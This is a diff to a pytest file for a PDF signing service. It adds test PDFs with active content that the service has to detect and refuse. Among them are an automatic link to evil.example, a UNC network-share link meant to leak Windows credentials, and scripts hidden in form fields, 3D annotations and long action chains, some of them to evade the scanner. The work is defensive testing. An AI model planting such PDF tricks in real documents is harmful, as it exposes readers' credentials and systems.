@@ -17,8 +17,9 @@ import pikepdf
 import pytest
 
 from signing_service.pki.dev import DevPki
+from signing_service.services.conclusion import ACTIVE_CONTENT_NOTE
 from signing_service.services.container import Services
-from signing_service.verification.active import active_content
+from signing_service.verification.active import active_content, describe
 from tests.support.pdfs import make_pdf
 from tests.support.state import assert_nothing_written, snapshot
 from tests.test_existing_signatures import auth, signed_locally, verify
@@ -87,6 +88,90 @@ def _xfa(pdf: pikepdf.Pdf) -> None:
     )
 
 
+def _open_web_address(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.OpenAction = pikepdf.Dictionary(
+        S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/dang-nhap")
+    )
+
+
+def _network_share_link(pdf: pikepdf.Pdf) -> None:
+    # A remote go-to to a UNC path: opening it sends the reader's Windows credentials.
+    _annotation(
+        pdf,
+        Subtype=pikepdf.Name.Link,
+        A=pikepdf.Dictionary(
+            S=pikepdf.Name.GoToR,
+            F=pikepdf.String("\\\\evil.example\\share\\a.pdf"),
+            D=pikepdf.Array([0, pikepdf.Name.Fit]),
+        ),
+    )
+
+
+def _field_script(pdf: pikepdf.Pdf) -> None:
+    # Red team 20 R20-2 a: a calculation script on the form field itself (the widget's
+    # /Parent), not on the widget a page lists.
+    field = pdf.make_indirect(
+        pikepdf.Dictionary(
+            FT=pikepdf.Name.Tx, T=pikepdf.String("so_tien"), AA=pikepdf.Dictionary(C=_js(pdf))
+        )
+    )
+    widget = pdf.make_indirect(
+        pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.Widget,
+            Rect=[10, 10, 60, 30],
+            Parent=field,
+        )
+    )
+    field.Kids = pikepdf.Array([widget])
+    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([widget]))
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
+
+
+def _rendition_script(pdf: pikepdf.Pdf) -> None:
+    # R20-2 b: a /Rendition action carries JavaScript in /JS.
+    _annotation(
+        pdf, Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.Rendition, JS=JS)
+    )
+
+
+def _three_d_script(pdf: pikepdf.Pdf) -> None:
+    # R20-2 d: a 3D annotation whose stream runs a script when instantiated.
+    stream = pdf.make_stream(b"", Type=pikepdf.Name("/3D"), Subtype=pikepdf.Name.U3D)
+    stream.OnInstantiate = pdf.make_stream(JS.encode())
+    _annotation(pdf, Subtype=pikepdf.Name("/3D"), **{"3DD": stream})
+
+
+def _long_chain(pdf: pikepdf.Pdf) -> None:
+    # R20-2 c: the script after 150 harmless actions.
+    action = _js(pdf)
+    for _ in range(150):
+        action = pdf.make_indirect(
+            pikepdf.Dictionary(
+                S=pikepdf.Name.GoTo,
+                D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]),
+                Next=action,
+            )
+        )
+    pdf.Root.OpenAction = action
+
+
+def _javascript_address(pdf: pikepdf.Pdf) -> None:
+    # R20-2 f: a link whose web address is a script.
+    _annotation(
+        pdf,
+        Subtype=pikepdf.Name.Link,
+        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("  JavaScript:app.alert(1)")),
+    )
+
+
+def _looping_page_tree(pdf: pikepdf.Pdf) -> None:
+    # R20-1: /Kids ending with the /Pages node itself: qpdf refuses the file, pyHanko and
+    # poppler read it; the script must not pass because the scanner could not open it.
+    _open_action(pdf)
+    pdf.Root.Pages.Kids.append(pdf.Root.Pages)
+
+
 def _web_link(pdf: pikepdf.Pdf) -> None:
     _annotation(
         pdf,
@@ -112,12 +197,20 @@ ACTIVE = {
     "open-action": (_open_action, {"JavaScript", "OpenAction"}),
     "chained-open-action": (_chained_open_action, {"JavaScript", "OpenAction"}),
     "document-scripts": (_document_scripts, {"JavaScript"}),
-    "page-action": (_page_action, {"AA"}),
+    "page-action": (_page_action, {"AA", "JavaScript"}),
     "launch-link": (_launch_link, {"Launch"}),
     "file-attachment": (_file_attachment, {"EmbeddedFile"}),
     "embedded-files": (_embedded_files, {"EmbeddedFile"}),
     "outline-script": (_outline_script, {"JavaScript"}),
     "xfa": (_xfa, {"XFA"}),
+    "open-web-address": (_open_web_address, {"URI", "OpenAction"}),
+    "network-share-link": (_network_share_link, {"GoToR"}),
+    "field-script": (_field_script, {"AA", "JavaScript"}),
+    "rendition-script": (_rendition_script, {"JavaScript"}),
+    "3d-script": (_three_d_script, {"JavaScript", "RichMedia"}),
+    "long-chain": (_long_chain, {"JavaScript", "OpenAction", "TooComplexToInspect"}),
+    "javascript-address": (_javascript_address, {"JavaScript"}),
+    "looping-page-tree": (_looping_page_tree, {"TooComplexToInspect"}),
 }
 
 
@@ -162,6 +255,9 @@ def test_signing_refuses_active_content_and_writes_nothing(
         assert body["code"] == "ACTIVE_PDF_CONTENT", body
         assert "nội dung chủ động" in body["message"]
         assert set(body["details"]["found"]) == expected
+        # Named for people too (new user 20 #6: the kinds were English tokens only).
+        assert body["details"]["found_text"] == describe(body["details"]["found"])
+        assert "JavaScript" not in describe(["OpenAction", "EmbeddedFile", "Launch"])
         assert_nothing_written(before, services)
     # A web link and a jump to the first page are no reason to refuse.
     for change in (_web_link, _jump_on_open):
@@ -192,7 +288,11 @@ def test_the_verifier_warns_and_countersigning_refuses(
     signed = signed_locally(dev_pki[0], "spare-seal", build(_open_action))
     report = verify(api, signed)
     warning = next(w for w in report["warnings"] if w["code"] == "ACTIVE_CONTENT_PRESENT")
-    assert "JavaScript" in warning["message"]
+    assert "mã JavaScript" in warning["message"]
+    assert "hành động tự chạy khi mở tệp" in warning["message"]
+    # The one message a portal shows says it too, the state staying the signatures' (new
+    # user 20 #1: "valid, not changed after signing" and nothing else).
+    assert report["status"]["message"].endswith(ACTIVE_CONTENT_NOTE), report["status"]
     before = snapshot(services)
     response = _sign(api, credentials, signed)
     assert response.status_code == 422, response.text
@@ -201,3 +301,4 @@ def test_the_verifier_warns_and_countersigning_refuses(
     # An ordinary signed document carries no such warning.
     plain = verify(api, signed_locally(dev_pki[0], "spare-seal"))
     assert "ACTIVE_CONTENT_PRESENT" not in [w["code"] for w in plain["warnings"]]
+    assert ACTIVE_CONTENT_NOTE not in plain["status"]["message"]
